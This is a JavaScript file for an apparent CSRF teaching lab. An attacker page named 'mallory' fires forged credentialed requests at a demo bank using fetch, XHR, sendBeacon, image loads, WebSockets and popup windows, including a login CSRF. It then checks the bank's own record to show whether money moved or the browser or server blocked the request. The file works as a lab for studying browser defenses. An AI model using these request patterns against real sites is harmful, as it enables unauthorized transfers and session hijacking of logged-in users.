'use strict';

const bank = document.body.dataset.bank;
const PATIENCE_MS = 4000;
const POLL_MS = 150;
const WINDOW_NAME = 'mallorys-window';
const WINDOW_LOOK = 'popup,width=560,height=460';

let attackWindow = null;
let busy = false;

// ---- what the bank tells everybody

async function readBank() {
  const answer = await fetch(bank + '/watch/state', { cache: 'no-store', credentials: 'omit' });
  if (!answer.ok) {
    throw new Error('the bank answered ' + answer.status);
  }
  return answer.json();
}

function newest(list) {
  return list.reduce((highest, entry) => Math.max(highest, entry.id), 0);
}

function pause(ms) {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function pounds(pence) {
  return '£' + (pence / 100).toFixed(2);
}

function showBalances(state) {
  document.getElementById('balances').textContent = Object.entries(state.balances)
    .map(([user, pence]) => user + ' ' + pounds(pence))
    .join('  ·  ');
}

function say(sentence) {
  const notice = document.getElementById('notice');
  notice.textContent = sentence;
  notice.hidden = sentence === '';
}

// ---- the attacks

function transfer(attack) {
  return new URLSearchParams({ to: 'mallory', amount: (attack.pence / 100).toFixed(2) });
}

/** The attacks that start in this page; each gives what the page itself can see of the answer, if anything. */
const inThisPage = {
  'fetch-no-cors': (attack, url) =>
    fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: transfer(attack) }),

  'fetch-cors': (attack, url) =>
    fetch(url, { method: 'POST', mode: 'cors', credentials: 'include', body: transfer(attack) }),

  'xhr': (attack, url) => new Promise((resolve) => {
    const xhr = new XMLHttpRequest();
    xhr.open('POST', url);
    xhr.withCredentials = true;
    xhr.onloadend = resolve;
    xhr.send(transfer(attack));
  }),

  'beacon': (attack, url) => navigator.sendBeacon(url, transfer(attack)),

  'fetch-delete': (attack, url, state) =>
    fetch(url + newest(state.transfers), { method: 'DELETE', mode: 'cors', credentials: 'include' }),

  'image': (attack, url) => new Promise((resolve) => {
    const image = new Image();
    image.onload = image.onerror = resolve;
    image.src = url + '?' + transfer(attack);
  }),

  'web-socket': (attack, url) => new Promise((resolve) => {
    const socket = new WebSocket(url.replace('http', 'ws'));
    const timer = setTimeout(() => end('it opened, and the bank said nothing'), PATIENCE_MS / 2);
    const end = (seen) => {
      clearTimeout(timer);
      socket.close();
      resolve(seen);
    };
    socket.onmessage = (message) => end('the bank told this page: ' + String(message.data).slice(0, 120));
    socket.onerror = () => end(null);
    socket.onclose = () => end(null);
  }),
};

function openWindow() {
  if (attackWindow === null || attackWindow.closed) {
    attackWindow = window.open('about:blank', WINDOW_NAME, WINDOW_LOOK);
  }
  return attackWindow !== null;
}

/** Starts an attack. The value is what this page saw of the answer, null if nothing. */
async function launch(attack, target, state) {
  if (attack.way === 'WINDOW') {
    if (!openWindow()) {
      throw new Error('the browser blocked the window: allow windows for this page and try again');
    }
    attackWindow.location = '/attack/' + attack.id + '/' + target;
    return null;
  }
  const url = bank + '/' + target + attack.path;
  try {
    const seen = await inThisPage[attack.id](attack, url, state);
    return typeof seen === 'string' ? seen : null;
  } catch (refusedByTheBrowser) {
    // Not to be read is what a cross-site answer is for: the bank's own record tells what happened.
    return null;
  }
}

// ---- the outcome, read back from the bank

async function play(attack, target) {
  const before = await readBank();
  const lastDecision = newest(before.decisions);
  const lastTransfer = newest(before.transfers);
  let failure = null;
  const launched = launch(attack, target, before).catch((problem) => {
    failure = problem;
    return null;
  });
  const path = '/' + target + attack.path;
  const seesPath = (decision) => decision.path === path || attack.path.endsWith('/') && decision.path.startsWith(path);
  const until = Date.now() + PATIENCE_MS;
  let decision;
  let preflight;
  let moved;
  while (Date.now() < until && failure === null) {
    const state = await readBank();
    showBalances(state);
    const fresh = state.decisions.filter((entry) => entry.id > lastDecision && seesPath(entry));
    decision = fresh.find((entry) => entry.method === attack.method);
    preflight = fresh.find((entry) => entry.method === 'OPTIONS');
    moved = state.transfers.find((entry) =>
      entry.id > lastTransfer && entry.to === 'mallory' && entry.amount === attack.pence);
    if (moved || decision && !decision.allowed) {
      break;
    }
    if (decision || preflight) {
      // The decision comes before the view: give the money a moment.
      await pause(4 * POLL_MS);
      const after = await readBank();
      showBalances(after);
      moved = after.transfers.find((entry) =>
        entry.id > lastTransfer && entry.to === 'mallory' && entry.amount === attack.pence);
      decision = decision || after.decisions.find((entry) =>
        entry.id > lastDecision && seesPath(entry) && entry.method === attack.method);
      break;
    }
    await pause(POLL_MS);
  }
  const seen = await launched;
  if (failure !== null) {
    throw failure;
  }
  return describe(attack, decision, preflight, moved, seen);
}

function describe(attack, decision, preflight, moved, seen) {
  if (moved) {
    return { kind: 'stolen', head: 'Money moved', text: pounds(moved.amount) + ' from ' + moved.from + ' to mallory.' };
  }
  if (decision && !decision.allowed) {
    return { kind: 'refused', head: 'Refused', text: decision.reason + ' (evidence: ' + decision.evidence + ').' };
  }
  if (!decision && preflight) {
    return {
      kind: 'inert',
      head: 'Stopped by the browser',
      text: 'it asked the bank with OPTIONS, the bank did not agree, and ' + attack.method + ' was never sent.',
    };
  }
  if (!decision) {
    return { kind: 'inert', head: 'Nothing arrived', text: 'the browser sent nothing to the bank.' };
  }
  return allowed(attack, decision, seen);
}

/** Let in by the bank's door, and no money moved: why not depends on the attack. */
function allowed(attack, decision, seen) {
  if (attack.id === 'login') {
    return { kind: 'stolen', head: 'Signed in as mallory', text: 'whoever sits here now uses mallory\'s account.' };
  }
  if (attack.id === 'web-socket') {
    return seen === null
      ? { kind: 'inert', head: 'No login', text: 'the handshake arrived, but the browser held the cookie back.' }
      : { kind: 'stolen', head: 'Connected', text: seen };
  }
  if (attack.method === 'GET') {
    return { kind: 'refused', head: 'No effect', text: 'let through (' + decision.rule + '), and a GET moves no money here.' };
  }
  return { kind: 'inert', head: 'No login', text: 'the request arrived, but the browser held the cookie back.' };
}

// ---- the page

function cell(element, outcome) {
  element.className = element.tagName === 'OUTPUT' ? 'outcome ' + outcome.kind : outcome.kind;
  const head = document.createElement('strong');
  head.textContent = outcome.head;
  element.replaceChildren(head, outcome.text === '' ? '' : ': ' + outcome.text);
}

function show(attack, target, outcome) {
  cell(document.querySelector('#' + attack.id + ' output[data-target="' + target + '"]'), outcome);
  cell(document.querySelector('tr[data-attack="' + attack.id + '"] td[data-target="' + target + '"]'), outcome);
}

async function attackOnce(attack, target) {
  show(attack, target, { kind: 'running', head: '…', text: '' });
  try {
    const outcome = await play(attack, target);
    show(attack, target, outcome);
    return true;
  } catch (problem) {
    show(attack, target, { kind: 'inert', head: 'Not played', text: problem.message + '.' });
    return false;
  }
}

async function exclusively(work) {
  if (busy) {
    return;
  }
  busy = true;
  say('');
  document.querySelectorAll('button').forEach((button) => { button.disabled = true; });
  try {
    await work();
  } finally {
    busy = false;
    document.querySelectorAll('button').forEach((button) => { button.disabled = false; });
  }
}

const attacks = [...document.querySelectorAll('.card')].map((card) => ({
  id: card.id,
  method: card.dataset.method,
  path: card.dataset.path,
  way: card.dataset.way,
  pence: Number(card.dataset.pence),
}));

for (const attack of attacks) {
  for (const button of document.querySelectorAll('#' + attack.id + ' button')) {
    button.addEventListener('click', () => exclusively(() => attackOnce(attack, button.dataset.target)));
  }
}

/** The login comes last, and on /open at the very end: after it the victim is mallory, and has nothing to lose. */
function program() {
  const rest = attacks.filter((attack) => attack.id !== 'login');
  const login = attacks.filter((attack) => attack.id === 'login');
  return [
    ...rest.map((attack) => [attack, 'open']),
    ...rest.map((attack) => [attack, 'web']),
    ...login.map((attack) => [attack, 'web']),
    ...login.map((attack) => [attack, 'open']),
  ];
}

document.getElementById('all').addEventListener('click', () => {
  // One window for all, opened by this click: later ones would be blocked.
  openWindow();
  return exclusively(async () => {
    for (const [attack, target] of program()) {
      if (!await attackOnce(attack, target)) {
        break;
      }
    }
  });
});

readBank().then(showBalances, (problem) => say('The bank can\'t be read: ' + problem.message + '. Is it running?'));
